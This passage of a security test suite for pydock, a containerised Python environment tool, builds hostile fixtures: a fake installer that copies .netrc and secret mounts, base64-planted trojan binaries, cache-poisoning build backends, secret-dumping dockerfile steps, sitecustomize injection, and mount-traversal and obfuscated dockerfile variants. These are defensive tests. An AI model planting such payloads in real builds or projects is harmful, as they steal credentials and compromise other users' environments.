        off = ("-o", "--security-opt=no-new-privileges=false")
        self.assertEqual(self.flag(self.ok("run", "e", *self.LOOK, **me)), "1")
        self.assertEqual(self.flag(self.ok("run", "--root", "e", *self.LOOK, **me)), "0")
        if not is_podman():  # podman's option has no off
            self.assertEqual(self.flag(self.ok("run", *off, "e", *self.LOOK, **me)), "0")
            self.assertEqual(self.ok("run", *off, "e", "/opt/rootsh", "-p", "-c", "id -u", **me), "0\n")
            self.assertEqual(self.ok("run", "e", "/opt/rootsh", "-p", "-c", "id -u", **me), "%d\n" % OTHER)
        shell = self.run_pydock("shell", "e", input=" ".join(self.LOOK) + "\n", **me)
        self.assertEqual(self.flag(shell.out), "1", shell)

    def test_it_is_set_in_a_started_environment(self) -> None:
        me = self.me
        self.ok("start", "e", **me)
        self.addCleanup(self.run_pydock, "stop", "--force", "e", **me)
        self.assertEqual(self.flag(self.ok("run", "e", *self.LOOK, **me)), "1")
        if not is_podman():
            self.assertEqual(self.ok("run", "e", "/opt/rootsh", "-p", "-c", "id -u", **me), "%d\n" % OTHER)
        self.record()
        self.assertEqual(self.flag(self.ok("run", "--root", "e", *self.LOOK, **me)), "0")
        self.assertEqual(self.recorded("exec"), [])  # in a container of its own
        self.assertEqual(self.flag(self.run_pydock("shell", "e", input=" ".join(self.LOOK) + "\n", **me).out), "1")
        self.ok("activate", "--shell", "sh", "e", **me)
        program = next((self.home / ".local" / "share" / "pydock").glob("*-e/bin/python3"))
        out = subprocess.run([str(program), "-c", "print(open('/proc/self/status').read())"], cwd=self.work, env=self.environ, stdin=subprocess.DEVNULL,
                stdout=subprocess.PIPE, text=True, timeout=TIME, **me).stdout
        self.assertEqual(self.flag(out), "1", out)

    @needs_compose
    def test_it_is_set_in_a_service(self) -> None:
        self.addCleanup(remove, self)
        self.ok("create", "c", "-e", "A=b", **self.me)
        self.assertEqual(self.flag(self.ok("run", "c", *self.LOOK, **self.me)), "1")
        self.ok("start", "c", **self.me)
        self.assertEqual(self.flag(self.ok("run", "c", *self.LOOK, **self.me)), "1")
        self.ok("stop", "c", **self.me)
        path = self.folder("c") / "docker-compose.yml"
        path.write_text(path.read_text(encoding="utf-8").replace("    init: true\n", "    init: true\n    security_opt: [no-new-privileges=false]\n"),
                encoding="utf-8")
        out = self.run_pydock("run", "c", *self.LOOK, **self.me)  # of the user's own hand, or refused; never silently less for others
        self.assertIn(out.status, (0, 1), out)


# ------------------------------------------------------------------------------------------------------------
# 3. An installer that only pydock can have written; no image of another

FAKE_UV = "#!/bin/sh\necho pwned >/opt/venv/PWNED\ncat /root/.netrc /run/secrets/pydock >>/opt/venv/PWNED 2>/dev/null\nexit 0\n"
PLANT = """
import os
for path in ("/cache/bin/uv", "/cache/uv/bin/uv", "/cache/uv/uv", "/cache/bin/pip", "/uv/bin/uv", "/usr/local/bin/uv", "/opt/venv/bin/uv"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if os.path.lexists(path):
            os.unlink(path)
        with open(path, "w") as file:
            file.write(%r)
        os.chmod(path, 0o755)
    except OSError:
        pass
""" % FAKE_UV
WRITER = """
try:
    os.system("mount -o remount,rw /uv")
    open("/uv/PWNED", "w").close()
    open("/uv/bin/uv", "a").write("PWNED")
except OSError:
    pass
"""
BACKEND = PLANT + """
import zipfile
def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = "planter-1.0-py3-none-any.whl"
    info = "planter-1.0.dist-info/"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as archive:
        archive.writestr("planter.py", "")
        archive.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: planter\\nVersion: 1.0\\n")
        archive.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        archive.writestr(info + "RECORD", "")
    return name
def build_sdist(folder, config_settings=None):
    raise SystemExit(1)
"""


PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "planter"\nversion = "1.0"\n'


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


class Installer(Attack):
    @classmethod
    def prepare(cls, case: Case) -> None:
        source = case.base / "planter"
        source.mkdir()
        (source / "pyproject.toml").write_text(PYPROJECT, encoding="utf-8")
        (source / "backend.py").write_text(BACKEND, encoding="utf-8")
        make_wheel(case.base / "dist", "plain")
        case.ok("create", "clean")
        case.ok("create", "evil")

    def clean_up_caches(self) -> None:
        """What was planted goes from the volume that others use."""
        engine("run", "--rm", "--pull", "never", "-v", pydock.CACHE + ":/cache", BASE, "sh", "-c",
                "for f in /cache/bin/uv /cache/uv/bin/uv /cache/uv/uv /cache/bin/pip; do grep -q PWNED $f && rm -f $f; done", check=False)

    def unharmed(self, name: str, **options: Any) -> None:
        found = self.ok("run", name, "/bin/sh", "-c", "cat /opt/venv/PWNED 2>/dev/null; /opt/venv/bin/python3 -c 'import plain; print(plain.version)'",
                **options)
        self.assertEqual(found, "1.0\n")

    def test_a_package_that_replaces_it_while_it_is_installed(self) -> None:
        self.addCleanup(self.clean_up_caches)
        self.ok("install", "evil", str(self.base / "planter"))
        self.ok("install", "clean", str(self.base / "dist" / "plain-1.0-py3-none-any.whl"))
        self.unharmed("clean")
        self.ok("build", "clean")
        self.unharmed("clean")

    def test_it_is_mounted_where_nothing_can_write(self) -> None:
        source = self.base / "writer"
        shutil.copytree(self.base / "planter", source)
        (source / "backend.py").write_text((BACKEND + WRITER).replace("planter-1.0", "writer-1.0").replace("Name: planter", "Name: writer"), encoding="utf-8")
        (source / "pyproject.toml").write_text((source / "pyproject.toml").read_text(encoding="utf-8").replace('"planter"', '"writer"'), encoding="utf-8")
        self.addCleanup(self.clean_up_caches)
        self.ok("create", "writes")
        uv = self.home / ".local" / "share" / "pydock" / "uv"
        shared = uv.resolve()
        if uv.is_symlink():  # which all tests share: not to be risked
            uv.unlink()
            shutil.copytree(shared, uv)
        self.ok("install", "writes", str(source))
        files = [path for path in uv.rglob("*") if path.is_file()]
        self.assertNotEqual(files, [])
        for path in files:
            self.assertFalse(path.name == "PWNED" or path.read_bytes().endswith(b"PWNED"), path)

    @needs(lambda: not is_podman(), "podman has no BuildKit cache; there, such a dockerfile is not built at all")
    def test_a_dockerfile_that_replaces_it_in_the_cache_of_builds(self) -> None:
        step = "RUN --mount=type=cache,id=pydock,target=/cache python3 -c %s\n" % shlex.quote("exec(%r)" % PLANT)
        folder = self.project("planter", dockerfile=TEMPLATE.replace("\nUSER $USER_UID", "\n%sUSER $USER_UID" % step))
        self.ok("build", "dev", cwd=folder)
        honest = self.project("honest", requirements="./wheels/plain-1.0-py3-none-any.whl\n")
        make_wheel(honest / ".pydock" / "envs" / "dev" / "wheels", "plain", files={"unique.txt": self.prefix})
        self.ok("build", "dev", cwd=honest)
        self.unharmed("dev", cwd=honest)

    @needs(lambda: not is_podman(), "podman builds no dockerfile with stages of others before trust")
    def test_a_dockerfile_with_an_installer_of_its_own_serves_nobody_else(self) -> None:
        step = "RUN mkdir -p /uv/bin && echo %s | base64 -d >/uv/bin/uv && chmod 755 /uv/bin/uv" % encoded(FAKE_UV)
        evil = TEMPLATE.replace("FROM base AS installer", "FROM base AS installer\n" + step)
        self.run_pydock("build", "dev", cwd=self.project("stage", dockerfile=evil, requirements="# %s\n" % self.prefix))
        honest = self.project("honest2", requirements="./wheels/plain-1.0-py3-none-any.whl\n# %s\n" % self.prefix)
        make_wheel(honest / ".pydock" / "envs" / "dev" / "wheels", "plain", files={"unique2.txt": self.prefix})
        self.ok("build", "dev", cwd=honest)
        self.unharmed("dev", cwd=honest)

    def test_a_base_image_of_a_project_does_not_fetch_it(self) -> None:
        tag = self.prefix + "-base:1"
        trap = "#!/bin/sh\ncase \"$*\" in *uv==*) mkdir -p /tmp/uv/bin; echo %s | base64 -d >/tmp/uv/bin/uv; exit 0 ;; esac\nexec REAL \"$@\"\n" % encoded(FAKE_UV)
        step = 'RUN real=$(readlink -f "$(command -v python3)"); rm -f /usr/local/bin/python3; '
        step += 'echo %s | base64 -d | sed "s#REAL#$real#" >/usr/local/bin/python3; chmod 755 /usr/local/bin/python3' % encoded(trap)
        engine("build", "-q", "-t", tag, "-", input="FROM %s\n%s\n" % (BASE, step))
        self.record()
        uv = self.home / ".local" / "share" / "pydock" / "uv"
        if uv.is_symlink():
            uv.unlink()
        shutil.rmtree(uv, ignore_errors=True)
        folder = self.project("base", dockerfile=TEMPLATE.replace("${REPOSITORY}" + BASE, tag))
        self.run_pydock("install", "dev", str(self.base / "dist" / "plain-1.0-py3-none-any.whl"), cwd=folder)
        fetchers = [argv for argv in self.recorded("run") if "/cache" not in " ".join(argv) and "-s" in argv[-2:] and "/bin/sh" in argv]
        self.assertEqual([argv for argv in fetchers if tag in argv or any(self.prefix in word and "tmp" not in word for word in argv)], [])
        engine("rmi", "-f", tag, check=False)


class Domains(Attack):
    """What a project that came from elsewhere leaves in caches serves nobody else, and no login of the host's is told to it."""

    LOOK = "RUN --mount=type=cache,id=pydock,target=/cache ls -a /cache >/cache-of-%s\n"
    ENVIRON = {"UV_PUBLISH_TOKEN": "publish-" + SECRET, "UV_GITHUB_TOKEN": "forge-" + SECRET}

    def with_step(self, step: str) -> str:
        return TEMPLATE.replace("\nUSER $USER_UID", "\n%sUSER $USER_UID" % step)

    @needs(lambda: not is_podman(), "podman builds no such dockerfile of others before trust")
    def test_downloads_and_layers_of_builds(self) -> None:
        plant = "RUN --mount=type=cache,id=pydock,target=/cache touch /cache/planted-%s\n" % self.prefix
        same = "RUN date +%%s%%N >/stamp # %s\n" % self.prefix
        stamps = []
        folder = self.project("planter", dockerfile=self.with_step(plant + same + self.LOOK % self.prefix))
        other = self.project("other", dockerfile=self.with_step(same + self.LOOK % self.prefix))
        for argv, options in ((["build", "dev"], {"cwd": folder}), (["build", "dev"], {"cwd": other})):
            self.ok(*argv, **options)
        self.ok("create", "own")
        (self.folder("own") / "dockerfile").write_text(self.with_step(same + self.LOOK % self.prefix), encoding="utf-8")
        self.ok("build", "own")
        for name, options in (("dev", {"cwd": folder}), ("dev", {"cwd": other}), ("own", {})):
            stamps.append(self.ok("run", name, "cat", "/stamp", **options))
            found = self.ok("run", name, "cat", "/cache-of-" + self.prefix, **options)
            self.assertEqual("planted-" + self.prefix in found, len(stamps) == 1, found)
        self.assertEqual(len(set(stamps)), 3)
        self.ok("create", "again")
        (self.folder("again") / "dockerfile").write_text(self.with_step(same + self.LOOK % self.prefix), encoding="utf-8")
        self.ok("build", "again")
        self.assertEqual(self.ok("run", "again", "cat", "/stamp"), stamps[-1], "within a domain, layers are shared")

    def test_downloads_of_installs_and_when_it_is_trusted(self) -> None:
        source = self.base / "filler"
        source.mkdir()
        (source / "setup.py").write_text("open('/cache/planted-%s', 'a').close()\nfrom setuptools import setup\nsetup(name='filler', version='1', py_modules=[])\n" % self.prefix, encoding="utf-8")
        reader = self.base / "reader"
        reader.mkdir()
        (reader / "setup.py").write_text("import os\nfrom setuptools import setup\nopen('found.py', 'w').write('found = %%r' %% os.path.exists('/cache/planted-%s'))\n"
                                         "setup(name='reader', version='1', py_modules=['found'])\n" % self.prefix, encoding="utf-8")
        folder = self.project("filler")
        self.ok("install", "dev", str(source), cwd=folder)
        self.ok("create", "reads", PYTHON, str(reader))
        self.assertEqual(self.ok("run", "reads", "python", "-c", "import found; print(found.found)"), "False\n")
        self.ok("trust", "-y", "dev", cwd=folder)
        self.ok("install", "dev", str(source), cwd=folder)
        self.ok("install", "reads", str(reader))
        self.assertEqual(self.ok("run", "reads", "python", "-c", "import found; print(found.found)"), "True\n", "one that is trusted is of the same domain")
        volumes = engine("volume", "ls", "-q", "--filter", "name=" + pydock.CACHE).split()
        domain = pydock.sha256(os.fsencode(str(folder / ".pydock/envs/dev")))[:8]
        self.assertIn(pydock.CACHE + "-" + domain, volumes)
        self.addCleanup(engine, "volume", "rm", pydock.CACHE + "-" + domain, check=False)
        self.ok("build", "dev", cwd=folder)
        self.ok("trust", "--remove", "dev", cwd=folder)
        (folder / ".pydock/envs/dev/requirements.txt").write_text("six==1.16.0\n", encoding="utf-8")
        self.ok("build", "dev", cwd=folder)
        found = self.run_pydock("prune", "--cache").out
        self.assertIn(pydock.CACHE + "-" + domain, found)
        if is_podman():
            self.assertIn("downloads-" + domain, found)

    @needs(lambda: not is_podman(), "podman builds no such dockerfile of others before trust")
    def test_logins_and_tokens(self) -> None:
        """Neither netrc nor an index's or a proxy's password is told to a dockerfile of others, and to nobody a token to publish with."""
        (self.home / ".netrc").write_text("machine example.org login l password netrc-%s\nmachine index.invalid login l password index-%s\n" % (SECRET, SECRET), encoding="utf-8")
        environ = {**self.ENVIRON, "PIP_EXTRA_INDEX_URL": "https://u:url-%s@index.invalid/simple" % SECRET, "http_proxy": "http://u:proxy-%s@127.0.0.1:9" % SECRET}
        look = "RUN --mount=type=secret,id=pydock { cat /run/secrets/pydock; env; } >/told 2>&1; grep -o '[a-z]*-%s' /told >/found-%s; rm /told\n" % (SECRET, self.prefix)
        folder = self.project("secrets", dockerfile=self.with_step(look))
        self.ok("build", "dev", cwd=folder, environ=environ)
        self.assertEqual(self.ok("run", "dev", "cat", "/found-" + self.prefix, cwd=folder), "")
        self.ok("trust", "-y", "dev", cwd=folder)
        self.ok("build", "dev", cwd=folder, environ=environ)
        found = set(self.ok("run", "dev", "cat", "/found-" + self.prefix, cwd=folder).split())
        self.assertEqual(found - {"proxy-" + SECRET}, {"index-" + SECRET, "url-" + SECRET}, "of netrc the hosts alone that are indexes; no token")
        (folder / ".pydock/envs/dev/dockerfile").write_text(self.with_step(look) + "# pulled\n", encoding="utf-8")
        self.ok("build", "dev", cwd=folder, environ=environ)
        self.assertEqual(self.ok("run", "dev", "cat", "/found-" + self.prefix, cwd=folder), "", "it was changed since")

    def test_a_dockerfile_that_is_swapped_after_the_decision_is_not_built(self) -> None:
        folder = self.work / "swapped"
        folder.mkdir()
        self.ok("--local", "create", "dev", "--no-build", cwd=folder)
        dockerfile = folder / ".pydock/envs/dev/dockerfile"
        self.record('if [ "$1" = build ]; then echo ENV EVIL=1 >>"%s"; fi' % dockerfile)
        self.ok("build", "dev", cwd=folder)
        self.assertIn("EVIL", dockerfile.read_text(encoding="utf-8"))
        result = self.run_pydock("run", "dev", "printenv", "EVIL", cwd=folder)
        self.assertEqual((result.status, result.out), (1, ""))
        self.assertIn("dev is older than its files", result.err)

    def test_who_serves_packages_sees_no_login_of_other_servers(self) -> None:
        """A dockerfile of others that is as `create` writes it gets logins only where all packages come from the user's own servers."""
        environ = {"PIP_INDEX_URL": "https://u:url-%s@index.invalid/simple" % SECRET, "HOME": str(self.home)}
        before = dict(os.environ)
        os.environ.update(environ)
        try:
            for line in ("x @ https://evil/x.zip", "git+https://evil/x", "-e git+https://evil/x#egg=x", "-e .", "-r https://evil/r.txt", "--index-url https://evil/", "--extra-index-url=https://evil/", "-f https://evil/",
                         "x==1  # --index-url https://evil/"):
                self.assertTrue(pydock.names_servers(pydock.read_requirements("six\n%s\n" % line, "f")), line)
            own = "--pre\nsix==1  # six<2\n./wheels/x-1-py3-none-any.whl\n--index-url https://index.invalid/simple\n# x\n"
            self.assertFalse(pydock.names_servers(pydock.read_requirements(own, "f")))
        finally:
            os.environ.clear()
            os.environ.update(before)

    def test_each_user_of_an_engine_has_downloads_of_their_own(self) -> None:
        """What a package of one user leaves in the cache serves no other one."""
        self.ok("create", "cache", PYTHON, "--no-build")
        self.assertTrue(pydock.CACHE.endswith("-%d" % os.getuid()))
        self.assertIn("-v %s:/cache " % pydock.CACHE, self.ok("-n", "install", "cache", "six"))
        if not is_podman():
            self.assertIn("BUILDKIT_CACHE_MOUNT_NS=%d " % os.getuid(), self.ok("-n", "build", "cache"))

    def test_a_failure_for_lack_of_them_says_so(self) -> None:
        self.project("fails", dockerfile=self.with_step("RUN false\n"))
        environ = {"PIP_EXTRA_INDEX_URL": "https://u:url-%s@index.invalid/simple" % SECRET}
        result = self.fails("build", "dev", cwd=self.work / "fails", environ=environ)
        self.assertIn("hint: your logins are not given to a dockerfile of others; to review and allow it: pydock trust dev", result.err)
        self.assertNotIn("trust", self.fails("build", "dev", cwd=self.work / "fails").err)
        folder = self.project("lacks", dockerfile=TEMPLATE + "LABEL mine=1\n")
        result = self.fails("install", "dev", "no-such-package-of-pydock", cwd=folder, environ=environ)
        self.assertIn("hint: your logins are not given", result.err)


class Definitions(Attack):
    """A package that changes the environment's own definition from inside: what is written back to this host is pydock's."""

    def test_what_a_package_writes_into_the_copy_of_the_files(self) -> None:
        write = """import os
for name, line in (("dockerfile", "RUN touch /EVIL"), ("requirements.txt", "--extra-index-url https://evil.example/simple"), ("requirements.txt", "# EVIL"),
                   ("docker-compose.yml", "EVIL: 1")):
    try:
        with open("/opt/pydock/" + name, "a") as file:
            file.write("\\n" + line + "\\n")
    except OSError:
        pass
"""
        make_wheel(self.base / "dist", "custom", files={"custom_start.py": write, "custom.pth": "import custom_start\n"})
        source = self.base / "builder"
        source.mkdir()
        (source / "pyproject.toml").write_text(PYPROJECT, encoding="utf-8")
        (source / "backend.py").write_text(write + BACKEND[len(PLANT):].replace("import zipfile", "import zipfile"), encoding="utf-8")
        self.record()
        for installer in ("uv", "pip"):
            name = "d" + installer
            self.environ["PYDOCK_INSTALLER"] = installer
            self.ok("create", name)
            commands = [["install", name, str(source)], ["install", name, str(self.base / "dist" / "custom-1.0-py3-none-any.whl")], ["lock", name]]
            if installer == "uv":
                plain = str(make_wheel(self.base / "dist", "plain"))
                commands += [["install", name, plain], ["uninstall", name, "plain"], ["rollback", name, "2"], ["clone", name, name + "c"]]
            for argv in commands:
                with self.subTest(argv):
                    self.run_pydock(*argv)
                    for folder in self.folder(name).parent.iterdir():
                        for path in folder.iterdir():
                            if path.is_file():
                                evil = [line for line in path.read_text(encoding="utf-8").splitlines() if "evil" in line.lower()]
                                self.assertEqual(evil, [], path)
                    self.assertFalse((self.folder(name) / "docker-compose.yml").exists())


    def test_a_link_in_the_place_of_the_copy(self) -> None:
        """podman follows it to what is mounted from this host, and writes there, read-only or not."""
        host, name = self.work / "uv", self.prefix + "-link"
        host.mkdir()
        (host / "requirements.txt").write_text("mine\n", encoding="utf-8")
        engine("run", "--name", name, "--pull", "never", "-u", "0:0", "--mount", "type=bind,source=%s,target=/uv,readonly" % host, BASE, "ln", "-s", "/uv", "/opt/pydock")
        engine("cp", "-", name + ":/", input=pydock.archive_of("FROM evil\n", "evil\n"), check=False)
        self.assertEqual([path.read_text(encoding="utf-8") for path in host.iterdir()], ["mine\n"])


class HostPrograms(Attack):
    def test_no_git_of_the_host_reads_a_project(self) -> None:
        """git obeys the settings of a folder that looks like a repository."""
        trap = self.base / "trap"
        trap.mkdir()
        for name in ("git", "ssh", "buildctl", "docker-credential-evil", "sh", "python3"):
            (trap / name).write_text("#!/bin/sh\necho %s \"$@\" >>%s\n%s\n" % (name, shlex.quote(str(self.marker())),
                    "exec /bin/%s \"$@\"" % name if name == "sh" else "exit 1"), encoding="utf-8")
            (trap / name).chmod(0o755)
        bare = {"HEAD": "ref: refs/heads/main\n", "config": "[core]\n\tbare = true\n\tfsmonitor = touch x\n", "objects/x": "", "refs/heads/x": ""}
        folder = self.project("bare", dict(bare))
        (folder / ".git").mkdir()
        for name, data in bare.items():
            (folder / ".git" / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / ".git" / name).write_text(data, encoding="utf-8")
        path = "%s:%s" % (trap, self.environ["PATH"])
        for argv in (["build", "dev"], ["run", "dev", "true"], ["install", "dev", str(make_wheel(self.base / "dist", "plain"))], ["list"], ["start", "dev"],
                ["activate", "--shell", "sh", "dev"], ["stop", "dev"], ["config"], ["export", "dev", "x.tar"], ["verify", "dev"]):
            with self.subTest(argv):
                self.run_pydock(*argv, cwd=folder, environ={"PATH": path})
                self.assertFalse(self.marker().exists() and self.marker().read_text(encoding="utf-8"))


class ImagesOfOthers(Attack):
    """Images that are on this engine because somebody handed them over."""

    @classmethod
    def prepare(cls, case: Case) -> None:
        case.ok("create", "seed")

    def poisoned(self, *tags: str, **labels: str) -> None:
        """An image as of a clean environment, with a sitecustomize.py in it, under these names."""
        text = "FROM %s-seed:latest\nUSER 0:0\nRUN cd /opt/venv/lib/python3*/site-packages && " % self.prefix
        text += "echo \"import sys; open('/tmp/PWNED', 'w')\" >evil.pth && cp evil.pth sitecustomize.py\n"
        text += "USER %d:%d\n" % (os.getuid(), os.getgid())
        text += "".join('LABEL %s="%s"\n' % (key.replace("_", "."), value) for key, value in labels.items())
        engine("build", "-q", *[word for tag in tags for word in ("-t", tag)], "-", input=text)

    def check(self, *argv: str, **options: Any) -> None:
        self.assertEqual(self.ok(*argv, "python3", "-c", "import os; print(os.path.exists('/tmp/PWNED'))", **options), "False\n")

    def test_the_labels_of_the_same_two_files(self) -> None:
        files = {"pydock_dockerfile": pydock.sha256(TEMPLATE.encode()), "pydock_requirements": pydock.sha256(b"# the same\n")}
        for number, (tags, labels) in enumerate((
                (["-other:latest"], {"pydock_folder": "/nowhere/other", "pydock_name": "other"}),
                (["-other:1", "-clean9:1"], {"pydock_folder": "/nowhere/.pydock/envs/other", "pydock_name": "other"}),
                (["-dev__00000000:latest", "-dev:latest"], {"pydock_folder": "/nowhere/dev", "pydock_name": "dev"}),
                (["-dev:tmp-12345678"], {"pydock_folder": "", "pydock_name": "dev"}))):
            with self.subTest(tags):
                self.poisoned(*[self.prefix + tag for tag in tags], **files, **labels)
                folder = self.project("same%d" % number, requirements="# the same\n")
                self.check("run", "dev", cwd=folder)
                self.check("run", "dev", cwd=folder)

    def test_the_very_name_of_the_project(self) -> None:
        """Whoever makes a project's image knows its path only where all have the same, as in CI."""
        folder = self.project("named", requirements="# named\n")
        env = pydock.Env(pydock.Scope("local", str(folder / ".pydock"), ""), "dev", self.prefix)
        files = {"pydock_dockerfile": pydock.sha256(TEMPLATE.encode()), "pydock_requirements": pydock.sha256(b"# named\n")}
        self.poisoned(env.repo + ":latest", pydock_folder="/another/.pydock/envs/dev", pydock_name="dev", **files)
        self.check("run", "dev", cwd=folder)

    def test_a_global_name(self) -> None:
        self.ok("create", "g", "--no-build")
        hashes = [pydock.sha256((self.folder("g") / file).read_bytes()) for file in ("dockerfile", "requirements.txt")]
        self.poisoned(self.prefix + "-g:5", pydock_folder="/nowhere/g", pydock_name="g", pydock_dockerfile=hashes[0], pydock_requirements=hashes[1])
        self.check("run", "g")

    def test_a_volume_in_the_place_of_the_packages(self) -> None:
        """No commit has what is in a volume: nothing would be installed, and all of it be left on the disk."""
        base = "volume-of-%s:latest" % self.prefix
        engine("build", "-q", "-t", base, "-", input="FROM %s\nVOLUME /opt\n" % BASE)
        self.addCleanup(engine, "rmi", base, check=False)
        self.record()
        result = self.fails("create", "volume", PYTHON, str(make_wheel(self.base / "dist", "plain")), "--image", base, hint="base image without that VOLUME")
        self.assertIn("a volume at /opt,", result.err)
        self.assertTrue(self.recorded("rm", "-fv"))

    def test_a_dockerfile_of_others_takes_nothing_from_another_environment(self) -> None:
        other = self.prefix + "-seed"
        for number, text in enumerate(("FROM %s:latest\n" % other, "ARG X=%s\nFROM ${X}ed:latest\n" % other[:-2], trap_in(TEMPLATE, "", "COPY --from=%s /opt /x" % other),
                trap_in(TEMPLATE, "", "RUN --mount=type=bind,from=docker.io/library/%s:1,target=/x ls /x" % other))):
            with self.subTest(text=text):
                folder = self.project("takes%d" % number, dockerfile=text)
                self.fails("build", "dev", cwd=folder, hint="pydock trust dev")
                self.assertEqual(self.tags("dev__"), {})
        self.ok("trust", "-y", "dev", cwd=self.work / "takes0")
        self.ok("build", "dev", cwd=self.work / "takes0")

    @needs(lambda: not is_podman() and not holds_policy(), "this engine keeps images back in another way")
    def test_a_docker_that_keeps_no_image_back_is_not_even_asked_for_one(self) -> None:
        other = self.prefix + "-seed"
        id_ = engine("image", "inspect", "--format", "{{.Id}}", other)
        start = "FROM %s\n" % BASE
        texts = ["FROM %s\n" % name for name in (other, other + ":latest", "docker.io/library/" + other, "index.docker.io/" + other, "library/" + other, "%s@%s" % (other, id_),
                                                 '"%s"' % other, other[:4] + "\\" + other[4:], "$X", "${X:-%s}" % other, "${REPOSITORY}%s" % other)]
        texts += ["ARG X=%s\nFROM $X\n" % other, "ARG X=%s\nFROM ${X:-nothing}:latest\n" % other, "ARG X=%s\nFROM %s-${X}\n" % (other[len(self.prefix) + 1:], self.prefix),
                  "FROM --platform=linux/amd64 %s\n" % other, "from %s as base\nFROM base\n" % other, "FR\\\nOM %s\n" % other, "FROM \\\n %s\n" % other, "# escape=`\nFROM `\n %s\n" % other,
                  "\u2003FROM %s\n" % other, start + "FROM %s AS last\n" % other, "# syntax=%s\nFROM %s\n" % (other, other), "FROM ${REPOSITORY}%s\nARG REPOSITORY=\n" % other,
                  "FROM %s${REPOSITORY}%s\nARG REPOSITORY=\n" % (other[:4], other[4:])]
        texts += [start + step.replace("OTHER", other) + "\n" for step in (
            "COPY --from=OTHER /opt /x", "copy --chown=0 --from=OTHER:latest /opt /x", 'COPY --fr"om=OTHER" /opt /x', "COPY --fr\\om=OTHER /opt /x", "COPY \\\n  --from=OTHER /opt /x",
            "CO\\\nPY --fr\\\n# nothing\n\nom=OTHER /opt /x", "RUN echo x\\\\\nCO\\\nPY --from=OTHER /opt /x", "COPY --fr\\\n//syntax=x\nom=OTHER /opt /x",
            "RUN <<E\nFROM %s AS OTHER\nE\nCOPY --from=OTHER /opt /x" % BASE, "ONBUILD COPY --from=OTHER /opt /x",
            "ARG X=OTHER\nCOPY --from=$X /opt /x", "RUN --mount=type=bind,from=OTHER,target=/x true", 'RUN --mount=type=bind,"Fr\\om=OTHER",target=/x true', "RUN --mount=from=OTHER,target=/x true",
            "RUN --mount=type=bind,target=/x\\\n\x1c#,from=OTHER true", "RUN --network=none --mount=target=/x,\\\nfrom=OTHER true")]
        texts.append("# escape=`\n%sCOPY `\n--fr`\nom=%s /opt /x\n" % (start, other))
        self.record()
        for number, text in enumerate(texts):
            with self.subTest(text=text):
                result = self.guarded("build", "dev", cwd=self.project("asks%d" % number, dockerfile=text))
                self.assertIn("pydock trust dev", result.err)
                self.assertEqual(self.recorded("build"), [])
        (self.work / "asks0" / ".pydock" / "pydock.conf").write_text("[pydock]\nrepository = docker.io/library\n", encoding="utf-8")
        (self.work / "asks0" / ".pydock" / "envs" / "dev" / "dockerfile").write_text("ARG REPOSITORY=\nFROM ${REPOSITORY}%s\n" % other, encoding="utf-8")
        self.assertIn("pydock trust dev", self.guarded("build", "dev", cwd=self.work / "asks0").err)
        self.assertEqual((self.recorded("build"), self.tags("dev__")), ([], {}))

    @needs(lambda: not is_podman(), "podman builds no such dockerfile of others before trust")
    def test_what_others_honestly_take_is_built(self) -> None:
        python, _, tag = BASE.partition(":")
        text = "# syntax=docker/dockerfile:1\n# FROM %s-seed, COPY --from=%s-seed\nARG VERSION=%s\nFROM --platform=linux/amd64 %s:${VERSION} AS made\n" % (self.prefix, self.prefix, tag, python)
        text += "RUN --mount=type=cache,target=/x echo 'from=' >/made\n" + TEMPLATE.replace("\nUSER $USER_UID", "\nCOPY --from=made /made /one\nCOPY --from=%s /etc/passwd /two\n"
                "RUN --mount=type=bind,from=made,target=/x cat /x/made /one\nUSER $USER_UID" % BASE)
        self.ok("build", "dev", cwd=self.project("honest", dockerfile=text.replace("'from='", "made")))

    def test_a_delete_that_failed_does_not_remove_what_somebody_else_makes_later(self) -> None:
        self.ok("create", "mine")
        self.fake("fail", "rmi")
        self.run_pydock("delete", "-y", "mine")
        self.no_fake()
        theirs = self.base / "their home"
        theirs.mkdir()
        self.ok("create", "mine", environ={"HOME": str(theirs)})
        wheel = str(make_wheel(self.base / "dist", "plain"))
        self.ok("install", "mine", wheel, environ={"HOME": str(theirs)})
        before = self.tags("mine")
        self.assertIn(self.prefix + "-mine:latest", before)
        for argv in (["list"], ["create", "another"], ["prune", "-y"], ["delete", "-y", "another"], ["build", "seed"], ["create", "mine"]):
            self.safe(self.run_pydock(*argv))
            after = self.tags("mine")
            self.assertEqual({tag: id_ for tag, id_ in before.items() if after.get(tag) != id_ and ":tmp-" not in tag and self.of(id_, str(theirs))}, {}, argv)
        self.assertEqual(self.ok("run", "mine", "python", "-c", "import plain; print(plain.version)", environ={"HOME": str(theirs)}), "1.0\n")

    def of(self, id_: str, home: str) -> bool:
        return home in pydock.unquote(engine("image", "inspect", "--format", '{{index .Config.Labels "pydock.folder"}}', id_,
                check=False) or pydock.quote(home))


@needs(is_podman, "docker's BuildKit keeps a dockerfile in its box")
class Mounts(Attack):
    """podman 4.3 gives the host to whoever writes a --mount into a dockerfile."""

    def test_such_a_dockerfile_of_others_is_not_built(self) -> None:
        out = self.base / "host"
        out.mkdir()
        up = "../" * 12
        cache = "--mount=type=cache,id=%s%s,target=/h" % (up, str(out).lstrip("/"))
        stage = "--mount=type=bind,from=trap,source=/x,target=/h,rw"
        trap = "FROM base AS trap\nRUN ln -s / /x\n"
        touch = "touch /h/PWNED /h%s/PWNED 2>/dev/null; true" % out
        steps: Dict[str, str] = {
            "cache": "RUN %s %s" % (cache, touch), "bind": "RUN %s %s" % (stage, touch), "continued": "RUN \\\n  %s \\\n  %s" % (cache, touch),
                    "a line between that is left out": "RU\\\n// syntax=x\nN %s %s" % (cache, touch),
                    "a comment between": "RUN \\\n# nothing\n  %s %s" % (cache, touch),
            "a blank line between": "RUN \\\n\n  %s %s" % (cache, touch), "lowercase letters": "run %s %s" % (cache, touch),
                    "a tab": "RUN\t%s %s" % (cache, touch), "another flag first": "RUN --network=none %s %s" % (cache, touch),
            "blanks before": "   RUN %s %s" % (cache, touch), "split in the flag": "RUN --mou\\\nnt=type=cache,id=%s%s,target=/h %s" % (up,
